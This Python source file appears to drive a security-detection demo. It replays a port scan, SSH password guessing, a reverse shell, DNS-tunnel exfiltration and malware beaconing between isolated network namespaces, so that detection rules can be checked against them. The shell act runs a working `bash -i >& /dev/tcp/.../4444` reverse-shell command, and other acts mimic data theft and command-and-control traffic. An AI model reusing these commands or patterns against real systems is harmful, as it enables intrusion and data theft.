"""The story: an everyday office, and an attacker who finds a server, gets in, calls home and carries data off.

Harmless and bounded: a few hundred small connections between two namespaces that have no way out. Each act is one
function on the pair.
"""

from __future__ import annotations

import pwd
import subprocess
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from random import Random

from deploy.demo import scripts, wire
from deploy.demo.namespaces import Pair, inside

SCANNED_PORTS = tuple(range(1, 1025, 17))  # 61 ports; 22 and 80 are added, for they are the ones that answer
GUESSES = 15
TUNNEL_QUESTIONS = 40
BEATS = 14
BEAT_S = 1.0
SHELL_PORT = 4444
SHELL_USER = "www-data"


@dataclass
class Stage:
    """Where the story plays, its dice, and whether it was broken off."""

    pair: Pair
    folder: Path
    rng: Random = field(default_factory=lambda: Random(20261123))
    broken_off: threading.Event = field(default_factory=threading.Event)


@dataclass(frozen=True, slots=True)
class Act:
    """One act: what it is called in English and Vietnamese, how it is played (which returns, in one line of each
    language, what it came to), and the id of the rule that must notice it, exactly once; none for ordinary traffic.
    Other rules may see the same act from another side, if the agent can watch what they ask for."""

    key: str
    en: str
    vi: str
    play: Callable[[Stage], tuple[str, str]]
    rule_id: str = ""
    other_rule_ids: tuple[str, ...] = ()


def everyday(stage: Stage) -> tuple[str, str]:
    """Ordinary traffic, which must raise nothing."""
    world, blue = stage.pair.world, stage.pair.blue
    lookups = wire.ask(blue, world, scripts.everyday_lookups(stage.rng, 30))
    ends = scripts.tls_ends(stage.folder)
    with (
        wire.listening(blue, 80) as web,
        wire.listening(blue, 80, ipv6=True) as web6,
        wire.listening(blue, 22) as ssh,
        wire.listening(world, 443) as secure,
    ):
        for number in range(12):
            wire.converse(world, web6 if number % 3 == 0 else web, scripts.http(stage.rng, f"/news/{number}"))
            time.sleep(stage.rng.uniform(0.01, 0.12))
        for name in scripts.EVERYDAY_NAMES[:3]:
            wire.converse(blue, secure, scripts.tls(ends, name, b"GET / HTTP/1.1\r\n\r\n", bytes(2000)))
        wire.converse(world, ssh, scripts.ssh(stage.rng, accepted=True))
    return (
        f"{lookups} DNS lookups, 12 web pages, 3 TLS connections, 1 SSH session; must raise nothing",
        f"{lookups} truy vấn DNS, 12 trang web, 3 kết nối TLS, 1 phiên SSH; không được báo động",
    )


def scan(stage: Stage) -> tuple[str, str]:
    """Red tries ports of blue, one connection each."""
    red, blue = stage.pair.red, stage.pair.blue
    ports = sorted({*SCANNED_PORTS, 22, 80})
    with wire.listening(blue, 22), wire.listening(blue, 80):
        found = [port for port in ports if wire.is_open(red, (blue.ipv4, port))]
    return (
        f"red tries {len(ports)} ports of blue; open: {', '.join(map(str, found))}",
        f"red thử {len(ports)} cổng của blue; đang mở: {', '.join(map(str, found))}",
    )


def guess(stage: Stage) -> tuple[str, str]:
    """Red tries one password after another over SSH."""
    with wire.listening(stage.pair.blue, 22) as ssh:
        for _ in range(GUESSES):
            wire.converse(stage.pair.red, ssh, scripts.ssh(stage.rng, accepted=False, client="libssh2_1.10.0"))
    return (
        f"red tries {GUESSES} passwords on blue's SSH; all refused",
        f"red thử {GUESSES} mật khẩu vào SSH của blue; đều bị từ chối",
    )


def shell(stage: Stage) -> tuple[str, str]:
    """The web server's user in blue gives red a shell: a real bash, which runs `id` and leaves."""
    red, blue = stage.pair.red, stage.pair.blue
    user = pwd.getpwnam(SHELL_USER)
    with wire.listening(red, SHELL_PORT) as listener:
        with inside(blue.namespace):
            process = subprocess.Popen(
                ["bash", "-c", f"bash -i >& /dev/tcp/{red.ipv4}/{SHELL_PORT} 0>&1"],
                user=user.pw_uid, group=user.pw_gid, extra_groups=[], cwd="/",
                env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "PS1": ""},
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            )  # fmt: skip
        try:
            connection, _ = listener.accept()
            with connection:
                connection.settimeout(5)
                connection.sendall(b"id\n")
                said = wire.drain(connection, until=b"groups=")
                connection.sendall(b"exit\n")
                wire.drain(connection)
            process.wait(timeout=5)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait(timeout=5)
    identity = next((line for line in said.decode(errors="replace").split() if line.startswith("uid=")), "?")
    return (
        f"{SHELL_USER} in blue hands red a shell on port {SHELL_PORT}; red runs id: {identity}",
        f"{SHELL_USER} ở blue trao cho red một shell ở cổng {SHELL_PORT}; red chạy id: {identity}",
    )


def tunnel(stage: Stage) -> tuple[str, str]:
    """Blue carries a file off in the labels of DNS questions to red's name server."""
    count = wire.ask(stage.pair.blue, stage.pair.red, scripts.tunnel_lookups(stage.rng, TUNNEL_QUESTIONS))
    return (
        f"blue carries {count * 75:,} bytes off in {count} DNS questions to {scripts.TUNNEL_ZONE}",
        f"blue tuồn {count * 75:,} byte ra ngoài trong {count} truy vấn DNS tới {scripts.TUNNEL_ZONE}",
    )


def beacon(stage: Stage) -> tuple[str, str]:
    """Malware in blue calls red over TLS, a second apart, with a few bytes each time."""
    ends = scripts.tls_ends(stage.folder)
    rng = Random(stage.rng.random())
    with wire.listening(stage.pair.red, 443) as home:
        begin = time.monotonic()
        for beat in range(BEATS):
            due = begin + beat * BEAT_S + rng.uniform(0, 0.03)
            if stage.broken_off.wait(max(0.0, due - time.monotonic())):
                break
            said = b"POST /v1/sync HTTP/1.1\r\nContent-Length: 0\r\n\r\n"
            wire.converse(stage.pair.blue, home, scripts.tls(ends, scripts.BEACON_NAME, said, b"HTTP/1.1 204 \r\n\r\n"))
    return (
        f"malware in blue calls {scripts.BEACON_NAME} over TLS {BEATS} times, {BEAT_S:g} s apart",
        f"mã độc ở blue gọi {scripts.BEACON_NAME} qua TLS {BEATS} lần, cách nhau {BEAT_S:g} giây",
    )


_RULES = "7f0d5b0e-6a37-4f0a-9d0c-5b7a2b8f1c"
EVERYDAY = Act("everyday", "everyday traffic", "lưu lượng thường ngày", everyday)
SCAN = Act("scan", "port scan", "quét cổng", scan, _RULES + "11")
GUESS = Act("guess", "password guessing", "dò mật khẩu", guess, _RULES + "12")
SHELL = Act("shell", "reverse shell", "shell ngược", shell, _RULES + "06", (_RULES + "61",))
TUNNEL = Act("tunnel", "DNS tunnel", "đường hầm DNS", tunnel, _RULES + "13")
BEACON = Act("beacon", "beacon", "gọi về máy điều khiển", beacon, _RULES + "21")
ATTACKS = (SCAN, GUESS, SHELL, TUNNEL, BEACON)


def play(stage: Stage, told: Callable[[Act, str, str], None]) -> None:
    """Play every act; `told` hears of each when it is over. The beacon beats under all the others."""
    fault: list[BaseException] = []

    def beat() -> None:
        try:
            told(BEACON, *beacon(stage))
        except BaseException as error:  # noqa: BLE001 - handed to the caller's thread below
            fault.append(error)

    heart = threading.Thread(target=beat, name="beacon")
    heart.start()
    try:
        for act in (EVERYDAY, SCAN, GUESS, SHELL, TUNNEL):
            told(act, *act.play(stage))
            time.sleep(0.5)
    except BaseException:
        stage.broken_off.set()
        raise
    finally:
        heart.join(timeout=BEATS * BEAT_S + 30)
    if fault:
        raise fault[0]
